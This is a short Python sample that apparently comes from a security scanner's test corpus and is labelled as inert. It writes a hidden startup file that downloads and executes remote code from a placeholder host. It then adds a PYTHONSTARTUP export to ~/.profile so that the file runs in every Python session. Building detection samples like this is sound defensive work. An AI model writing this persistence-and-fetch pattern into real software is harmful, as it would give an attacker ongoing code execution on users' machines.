# pkgguard corpus 091 (persistence), modelled on [startup-hooks]; inert, never run.
import os

target = os.path.expanduser("~/.cache/.pystartup.py")
with open(target, "w") as f:
    f.write("import urllib.request as u;exec(u.urlopen('https://cdn.example/s').read())")
with open(os.path.expanduser("~/.profile"), "a") as rc:
    rc.write("\nexport PYTHONSTARTUP=%s\n" % target)
